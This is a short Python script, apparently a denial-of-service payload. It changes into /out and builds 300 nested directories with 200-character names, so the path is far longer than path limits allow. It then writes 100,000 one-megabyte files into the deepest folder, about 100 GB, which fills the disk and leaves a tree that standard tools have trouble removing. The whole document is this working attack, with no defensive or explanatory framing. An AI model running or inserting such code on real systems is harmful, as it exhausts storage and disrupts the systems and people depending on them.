"""Leaves folders in folders, deeper than any path is long, and fills the last one."""

import os

os.chdir("/out")
for _ in range(300):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
for number in range(100_000):
    with open(str(number), "wb") as file:
        file.write(bytes(2**20))
